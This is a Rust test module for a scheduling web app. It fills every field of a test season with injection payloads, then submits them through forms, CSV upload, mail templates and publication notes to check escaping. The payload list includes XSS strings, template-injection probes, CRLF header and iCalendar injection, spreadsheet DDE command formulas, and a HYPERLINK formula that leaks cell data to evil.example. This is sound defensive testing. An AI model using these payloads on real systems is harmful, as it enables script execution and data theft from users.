//! A season in which every text is an attack: in every field each of them, in turn.

use yarkie_berega::app::account::{self, Gate};
use yarkie_berega::app::{Deed, Desk, Publication, Store};
use yarkie_berega::domain::access::Role;
use yarkie_berega::domain::assignment::AssignmentStatus;
use yarkie_berega::domain::embankment::Position;
use yarkie_berega::domain::identity::AssignmentId;
use yarkie_berega::domain::run::RunOrder;
use yarkie_berega::domain::season::BuiltSeason;
use yarkie_berega::exchange::mail::TextName;
use yarkie_berega::exchange::text::percent;

use super::walk::Known;
use crate::support::app::{NOW, TestApp, time};
use crate::support::desk::{by, desk, draft, request, target};
use crate::support::people::{PASSWORD, grant, profile};
use crate::support::season::{
    With, a_season, assignment, day, embankment, food_point, performer, place, station,
};
use crate::support::values::date;

/// What somebody may type to make a page, a file, a header, a feed or a spreadsheet do something. What is
/// run sets `ran`; what becomes markup is an `x-payload`.
pub(super) const PAYLOADS: [&str; 17] = [
    "<script>window.ran=1</script><x-payload>",
    "\"><img src=x onerror=\"window.ran=1\"><x-payload a=\"",
    "' onmouseover='window.ran=1' autofocus onfocus='window.ran=1' x='",
    "javascript:window.ran=1//",
    "</title></textarea></style></script><svg onload=window.ran=1><x-payload>",
    "ssti-{{7*7}}-${7*7}-{ 7 * 7 }-<%=7*7%>-{сезон}{имя}-x",
    "x\r\nX-Injected: 1\r\nSet-Cookie: injected=1\r\n\r\n<x-payload>",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:injected\r\nATTACH:javascript:1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")",
    "\u{202e}gnp.\u{202d}\u{2066}<x-payload>\u{200b}=1+1",
    "nul\0\u{1}\u{1b}[31m\u{feff}\u{85}\u{2028}<x-payload>",
    "]]><!--<x-payload>--><![CDATA[<?x?>&amp;&lt;x-payload&gt;&#60;x-payload&#62;",
    "//evil.example/\\..\\x\u{fffd}\u{1f468}\u{200d}\u{1f469}",
];

pub(super) const SLUG: &str = "hostile";

/// Another attack for each field of each item.
pub(super) fn text(item: usize, field: usize) -> String {
    PAYLOADS[(item + field) % PAYLOADS.len()].to_owned()
}

/// As much of an attack as an id may hold, and what tells it from the others.
fn id(item: usize) -> String {
    let fits = |c: &char| !c.is_control() && *c != '|';
    let text: String = PAYLOADS[item].chars().filter(fits).take(80).collect();
    format!("{}-{item}", text.trim())
}

fn on(item: usize) -> String {
    let first = date("2023-06-03");
    (first + chrono::Duration::days(item as i64)).to_string()
}

pub(super) fn season() -> BuiltSeason {
    let mut season = a_season().change(|parts| {
        parts.slug = SLUG.into();
        parts.name = PAYLOADS.concat();
        parts.reception.is_open = true;
        parts.reception.operator = PAYLOADS.concat();
    });
    for item in 0..PAYLOADS.len() {
        let make = [performer, station, food_point][item % 3];
        let made = make(&id(item)).with(|it| {
            it.title = text(item, 0);
            it.description = format!("{}\n{}", text(item, 1), PAYLOADS.concat());
            it.category = Some(text(item, 2));
            it.applicant = text(item, 3);
            it.contact.name = text(item, 4);
            it.contact.email = match item % 2 {
                0 => format!("a{item}@example.org"),
                _ => text(item, 5),
            };
            it.contact.phone = text(item, 6);
            it.city = text(item, 7);
            it.region = text(item, 8);
            it.people = vec![text(item, 9)];
        });
        let kind = made.kind;
        season = season
            .day(day(&on(item), "12:00-22:00").with(|it| it.theme = Some(text(item, 2))))
            .embankment(embankment(&id(item)).with(|it| {
                it.name = text(item, 10);
                it.address = text(item, 11);
                it.position = Some(Position {
                    latitude_udeg: 56_000_000 + item as i32 * 1_000,
                    longitude_udeg: 92_000_000 + item as i32 * 5_000,
                });
            }))
            .place(place(&id(item), &id(item), kind).with(|it| it.name = text(item, 12)))
            .application(made)
            .assignment(assignment(&id(item), &on(item), &id(item), "13:00-14:00"));
    }
    season.build()
}

/// The season with a history, somebody who may see all of it, and every address of it.
pub(super) struct Attacked {
    pub(super) app: TestApp,
    pub(super) desk: Desk,
    pub(super) cookie: String,
    pub(super) known: Known,
}

impl Attacked {
    pub(super) async fn new(store: &Store) -> Self {
        let desk = desk(store, &season()).await;
        let actor = account::Actor::command_line();
        let new = ("anna", &profile(&text(0, 0)), Some(PASSWORD));
        let anna = account::create_account(store, &Gate::default(), &actor, new, time(NOW)).await;
        let all = grant(Role::Administrator, "", "");
        let granted = account::add_grant(store, &actor, (anna.unwrap(), &all), time(NOW));
        granted.await.unwrap();
        let app = TestApp::new(store);
        let cookie = app.log_in("anna").await;
        let attacked = Self {
            known: Known::default(),
            app,
            desk,
            cookie,
        };
        attacked.word_mail().await;
        attacked.publish().await;
        attacked.edit(0).await;
        attacked.publish().await;
        attacked.mark_and_review().await;
        let upload = attacked.upload().await;
        let form = attacked.apply().await;
        // So that there is something to publish.
        attacked.edit(1).await;
        let known = Known::of(&attacked.desk, SLUG).await;
        let run = RunOrder {
            steps: Some(10),
            ..RunOrder::default()
        };
        let run = attacked.desk.ask_run(SLUG, &by(NOW), &run).await.unwrap();
        let mut secrets = vec!["none".to_owned()];
        for application in draft(&attacked.desk, SLUG)
            .await
            .draft
            .season()
            .applications()
        {
            let id = application.id.as_str();
            let link = attacked.desk.renew_link(SLUG, &by(NOW), id).await;
            secrets.push(link.unwrap().reveal().to_owned());
        }
        Self {
            known: known
                .with("upload", [upload])
                .with("run", [run.id.0])
                .with("secret", secrets),
            cookie: format!("{}; {form}", attacked.cookie),
            ..attacked
        }
    }

    /// Notes are what somebody types too.
    async fn publish(&self) {
        let publication = Publication {
            note: PAYLOADS.concat().chars().take(900).collect(),
            ..Publication::default()
        };
        let published = self.desk.publish(SLUG, &by(NOW), &publication, None).await;
        published.unwrap();
    }

    /// All that is planned: which assignment, and of which item.
    async fn planned(&self) -> Vec<(AssignmentId, usize)> {
        let draft = draft(&self.desk, SLUG).await;
        let planned = draft.draft.items().assignments();
        let item = |of: &str| (0..PAYLOADS.len()).position(|item| id(item) == of).unwrap();
        planned
            .map(|(it, part)| (it, item(&part.application)))
            .collect()
    }

    /// Moves, cancels and removes, each for a reason.
    async fn edit(&self, round: usize) {
        let planned = self.planned().await;
        let [a, b, c] = [0, 1, 2].map(|nth| planned[3 * round + nth]);
        let deeds = [
            Deed::Move {
                id: a.0,
                to: target(&on(a.1), &id(a.1), "15:00-16:00"),
            },
            Deed::Status {
                id: b.0,
                status: AssignmentStatus::Cancelled,
            },
            Deed::Remove { id: c.0 },
        ];
        for (item, deed) in deeds.into_iter().enumerate() {
            let request = yarkie_berega::app::Request {
                reason: Some(text(item, round)),
                ..request([deed])
            };
            let edited = self.desk.edit(SLUG, &by(NOW), &request, None).await;
            edited.unwrap();
        }
    }

    /// What those on the embankments and reviewers type.
    async fn mark_and_review(&self) {
        for (of, item) in self.planned().await {
            let sheet = format!("/{SLUG}/day-sheets/{}/{}", on(item), percent(&id(item)));
            let (of, note) = (of.to_string(), text(item, 5));
            let fields = [
                ("says", "problem"),
                ("of", &*of),
                ("form", &*of),
                ("note", &*note),
            ];
            let marked = self.app.submit(&sheet, &self.cookie, &fields).await;
            assert_eq!(marked.status, 303, "{}", marked.text());
            let review = format!("/desk/{SLUG}/applications/{}/review", percent(&id(item)));
            let fields = [("score", "3"), ("comment", &*note)];
            let given = self.app.submit(&review, &self.cookie, &fields).await;
            assert_eq!(given.status, 303, "{}", given.text());
        }
    }

    /// Begins an application by the public form; the cookie that goes on with it.
    async fn apply(&self) -> String {
        let path = format!("/{SLUG}/apply/who");
        let page = self.app.get(&path).await;
        let consent = page.text().split("name=\"consent\" value=\"").nth(1);
        let consent = consent.unwrap().split('"').next().unwrap();
        let fields = [
            ("applicant", PAYLOADS[0]),
            ("contact_name", PAYLOADS[1]),
            ("city", PAYLOADS[4]),
            ("email", "a@example.org"),
            ("phone", "8 (391) 200-00-00"),
            ("consent", consent),
            ("go", "next"),
        ];
        let kept = self.app.submit(&path, "", &fields).await;
        assert_eq!(kept.status, 303, "{}", kept.text());
        let cookie = kept.header("set-cookie").split(';').next().unwrap();
        let fields = [
            ("kind", "performer"),
            ("title", PAYLOADS[2]),
            ("description", PAYLOADS[15]),
            ("people", PAYLOADS[3]),
            ("go", "next"),
        ];
        let path = format!("/{SLUG}/apply/what");
        let kept = self.app.submit(&path, cookie, &fields).await;
        assert_eq!(kept.status, 303, "{}", kept.text());
        cookie.to_owned()
    }

    /// In texts of mails braces mean something: others are refused.
    async fn word_mail(&self) {
        let plain: Vec<_> = PAYLOADS
            .iter()
            .filter(|it| !it.contains('{'))
            .copied()
            .collect();
        let plain = plain.concat();
        for name in TextName::all() {
            let is_subject = name.word().ends_with("subject");
            let text = if is_subject {
                PAYLOADS[6].to_owned()
            } else {
                plain.clone()
            };
            let worded = self.desk.word_mail(SLUG, &by(NOW), &[(name, text)]).await;
            worded.unwrap();
        }
    }

    /// A table whose names and cells are attacks.
    async fn upload(&self) -> String {
        let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\"").replace('\0', ""));
        let row = |item: usize| {
            let cells = (0..6).map(|field| quoted(&text(item, field)));
            cells.collect::<Vec<_>>().join(";")
        };
        let rows: Vec<String> = (0..PAYLOADS.len()).map(row).collect();
        let table = format!("Название;Описание;{}\r\n", rows[0]);
        let table = rows
            .iter()
            .fold(table, |table, row| table + "a;b;" + row + "\r\n");
        let body = format!(
            "--edge\r\nContent-Disposition: form-data; name=\"file\"; filename=\"<x-payload>=1+1.csv\"\r\n\
             Content-Type: text/csv\r\n\r\n{table}\r\n--edge--\r\n"
        );
        let headers = [
            ("accept", "text/html"),
            ("content-type", "multipart/form-data; boundary=edge"),
            ("cookie", &*self.cookie),
            ("sec-fetch-site", "same-origin"),
        ];
        let path = format!("/desk/{SLUG}/import");
        let answer = self.app.send("POST", &path, &headers, &body).await;
        assert_eq!(answer.status, 303, "{}", answer.text());
        let location = answer.header("location").to_owned();
        location.rsplit('/').next().unwrap().to_owned()
    }
}
